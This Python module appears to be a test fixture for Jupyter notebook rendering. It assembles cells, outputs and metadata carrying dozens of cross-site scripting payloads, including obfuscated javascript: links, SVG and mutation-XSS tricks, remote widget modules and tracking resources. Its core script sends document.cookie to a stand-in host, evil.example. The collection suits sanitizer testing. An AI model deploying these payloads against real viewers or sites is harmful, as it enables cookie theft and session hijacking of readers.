"""What somebody may write into a notebook to run code as its readers, or to learn of them."""

from __future__ import annotations

import json
from typing import Any

SCRIPT = "window.hacked=1;top.hacked=1;fetch('http://evil.example/js?'+document.cookie)"
EVIL = "http://evil.example"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'onload="{SCRIPT}" width="9" height="9"><script>{SCRIPT}</script>'
    f'<image href="{EVIL}/svg.png"/><use xlink:href="{EVIL}/x.svg#a"/>'
    f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/f"/></foreignObject>'
    f'<a href="javascript:{SCRIPT}"><circle r="4"/></a></svg>'
)

HTML = {
    "script": f"<script>{SCRIPT}</script>",
    "remote script": f'<script src="{EVIL}/x.js"></script>',
    "module script": f'<script type="module">import "{EVIL}/m.js"</script>',
    "script from a file": '<script src="/files/evil.js"></script>',
    "image that fails": f'<img src="x" onerror="{SCRIPT}">',
    "remote image": f'<img src="{EVIL}/i.png" srcset="{EVIL}/s.png 1x"><picture><source '
    f'srcset="{EVIL}/p.png"><img></picture><input type=image src="{EVIL}/n.png">',
    "drawing in HTML": SVG,
    "animation": f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    "link to script": f'<a href="javascript:{SCRIPT}">link</a>',
    "link with entities": f'<a href="&#106;ava&#x73;cript&colon;{SCRIPT}">link</a>',
    "link with white space": f'<a href=" java&#10;scr&Tab;ipt:{SCRIPT}" target=_self>link</a>',
    "link to data": f'<a href="data:text/html,<script>{SCRIPT}</script>">link</a>',
    "link that tells": f'<a href="#" ping="{EVIL}/ping">link</a>',
    "frame with its page": f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    "remote frame": f'<iframe src="{EVIL}/frame"></iframe>'
    f'<iframe src="javascript:{SCRIPT}"></iframe>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    "base": f'<base href="{EVIL}/"><img src="relative.png"><a href="x">x</a>',
    "form": f'<form action="{EVIL}/form"><input autofocus onfocus="{SCRIPT}"><button '
    f'formaction="javascript:{SCRIPT}" autofocus>Sign in</button></form>',
    "style sheet": f'<style>@import "{EVIL}/a.css"; body{{background:url({EVIL}/b.png)}}'
    f"@font-face{{font-family:x;src:url({EVIL}/f.woff)}} *{{font-family:x}}</style>",
    "style": f'<p style="background:url({EVIL}/style.png);position:fixed;inset:0">x</p>',
    "link elements": "".join(
        f'<link rel="{kind}" href="{EVIL}/{kind.replace(" ", "")}">'
        for kind in ("stylesheet", "prefetch", "preload", "dns-prefetch", "preconnect", "icon")
    ),
    "objects": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e"><object '
    f'data="javascript:{SCRIPT}"></object><applet code="{EVIL}/a"></applet>',
    "media": f'<video autoplay src="{EVIL}/v" poster="{EVIL}/p"></video><audio src="{EVIL}/a" '
    f'onerror="{SCRIPT}"></audio><video><track src="{EVIL}/t"></video>',
    "toggle": f'<details open ontoggle="{SCRIPT}"><summary>x</summary></details>',
    "old attributes": f'<table background="{EVIL}/t"><td background="{EVIL}/d">1</td></table>'
    f'<marquee onstart="{SCRIPT}">x</marquee><body onload="{SCRIPT}">',
    "parser's confusion": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    f'&lt;img src=x onerror="{SCRIPT}"&gt;\'></mglyph></table></mtext></math>',
    "no script": f'<noscript><p title="</noscript><img src=x onerror={SCRIPT!r}>"></noscript>',
    "names of the page's own": '<form id="body" name="body"><input name="children"></form>'
    f'<img name="getElementById" src=x onerror="{SCRIPT}">',
    "commands of JupyterLab": '<button data-commandlinker-command="apputils:reset" '
    f'data-commandlinker-args="{{}}" onclick="{SCRIPT}">x</button>',
}

WIDGET = {
    "state": {
        "m": {
            "model_name": "HTMLModel",
            "model_module": "@jupyter-widgets/controls",
            "model_module_version": "2.0.0",
            "state": {"value": HTML["image that fails"] + HTML["remote image"]},
        },
        "n": {
            "model_name": "EvilModel",
            "model_module": f"{EVIL}/widget.js",
            "model_module_version": "1.0.0",
            "state": {"_view_module": f"{EVIL}/view.js", "_view_name": "V"},
        },
    },
    "version_major": 2,
    "version_minor": 0,
}

VEGA = {
    "data": {"url": f"{EVIL}/data.json"},
    "mark": {"type": "image", "url": f"{EVIL}/mark.png"},
    "transform": [{"calculate": "constructor.constructor('window.hacked=1')()", "as": "x"}],
    "encoding": {"href": {"value": f"javascript:{SCRIPT}"}},
}

MIMES: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": SCRIPT},
    "text/javascript": {"text/javascript": SCRIPT, "application/x-javascript": SCRIPT},
    "drawing": {"image/svg+xml": SVG},
    "picture that is a page": {"image/png": f'" onerror="{SCRIPT}"><script>{SCRIPT}</script>'},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2}},
    "remote widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "n", "version_major": 2}
    },
    "vega": {"application/vnd.vegalite.v5+json": VEGA, "application/vnd.vega.v5+json": VEGA},
    "vdom": {
        "application/vdom.v1+json": {
            "tagName": "img",
            "attributes": {"src": f"{EVIL}/vdom.png", "onError": SCRIPT},
            "children": [{"tagName": "script", "children": SCRIPT}],
        }
    },
    "latex": {
        "text/latex": rf"$\href{{javascript:{SCRIPT}}}{{x}} \require{{html}} "
        rf"\style{{background:url({EVIL}/tex)}}{{y}}$" + HTML["image that fails"]
    },
    "markdown output": {"text/markdown": f"![x]({EVIL}/m.png) [x](javascript:{SCRIPT}) {SVG}"},
    "other renderers": {
        "application/geo+json": {"type": HTML["image that fails"]},
        "application/vnd.plotly.v1+json": {"data": [{"type": SVG}], "layout": {"title": SVG}},
        "application/pdf": HTML["script"],
        "application/json": {"<img src=x onerror=window.hacked=1>": HTML["script"]},
    },
    "HTML in parts": {"text/html": ["<scr", "ipt>", SCRIPT, "</script>", HTML["image that fails"]]},
}

MARKDOWN = {
    "remote picture": f'![x]({EVIL}/md.png "t") ![y][r]\n\n[r]: {EVIL}/ref.png',
    "links": f"[x](javascript:{SCRIPT}) <javascript:{SCRIPT}> [y](java&#115;cript:{SCRIPT})",
    "raw HTML": HTML["image that fails"] + HTML["script"] + HTML["frame with its page"],
    "diagram": f"```mermaid\ngraph TD\nA[<img src='{EVIL}/m.png' onerror='window.hacked=1'>]\n"
    f'click A "javascript:{SCRIPT}"\n```',
    "formula": rf"$$\href{{javascript:{SCRIPT}}}{{x}} \unicode{{<img src=x>}}$$",
    "heading": f"# <img src=x onerror='{SCRIPT}'>",
    "attachment": "![x](attachment:x.svg)",
}

MARKUP = '"><img src=x onerror=window.hacked=1>'


def code(outputs: list[dict[str, Any]], **more: Any) -> dict[str, Any]:
    metadata = {"trusted": True, "isTrusted": True}
    return {
        "cell_type": "code",
        "execution_count": None,
        "metadata": metadata,
        "source": "1",
        "outputs": outputs,
        **more,
    }


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    meta = {"trusted": True, **(metadata or {})}
    return {"output_type": "display_data", "data": data, "metadata": meta}


def markdown(source: str, **more: Any) -> dict[str, Any]:
    return {
        "cell_type": "markdown",
        "metadata": {"trusted": True},
        "source": source,
        "attachments": {"x.svg": {"image/svg+xml": SVG}},
        **more,
    }


def cells() -> dict[str, list[dict[str, Any]]]:
    """Every payload by its name: the cells that carry it."""
    found: dict[str, list[dict[str, Any]]] = {}
    for name, html in HTML.items():
        result = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
        found[f"html: {name}"] = [
            code([display({"text/html": html}), {**result, "data": {"text/html": html}}]),
            markdown(html),
        ]
    for name, data in MIMES.items():
        found[f"mime: {name}"] = [code([display(data)])]
    for name, source in MARKDOWN.items():
        found[f"markdown: {name}"] = [markdown(source)]
    isolated = {"isolated": True, "text/html": {"isolated": True}}
    found["html: isolated"] = [
        code([display({"text/html": HTML["script"] + HTML["remote image"]}, isolated)])
    ]
    error = {"output_type": "error", "ename": MARKUP, "evalue": SVG, "traceback": [SVG, MARKUP]}
    text = f"{MARKUP}\x1b]8;;javascript:{SCRIPT}\x07link\x1b]8;;\x07 javascript:{SCRIPT}"
    found["text: stream and error"] = [
        code([{"output_type": "stream", "name": "stdout", "text": text}, error])
    ]
    found["text: names of streams"] = [
        code([{"output_type": "stream", "name": f"x {MARKUP}", "text": "x"}])
    ]
    found["cell: id"] = [code([], id=MARKUP), markdown("x", id=f"x' onmouseover='{SCRIPT}")]
    tags = {"tags": [MARKUP], "name": MARKUP, "jupyter": {"source_hidden": MARKUP}}
    found["cell: metadata"] = [code([], metadata={**tags, "trusted": True})]
    raw = {"format": "text/html", "raw_mimetype": "text/html"}
    found["cell: raw"] = [
        {"cell_type": "raw", "metadata": {**raw, "trusted": True}, "source": HTML["script"]}
    ]
    found["cell: source"] = [code([], source=HTML["script"] + MARKUP + SVG)]
    return found


def notebook_metadata() -> dict[str, Any]:
    """Metadata of a whole notebook that carries payloads."""
    return {
        "widgets": {"application/vnd.jupyter.widget-state+json": WIDGET},
        "trusted": True,
        "signature": "x",
        "title": MARKUP,
        "authors": [{"name": json.dumps(MARKUP)}],
        "kernelspec": {"name": "python3", "display_name": MARKUP, "language": MARKUP},
        "language_info": {"name": MARKUP, "mimetype": MARKUP, "codemirror_mode": MARKUP},
    }
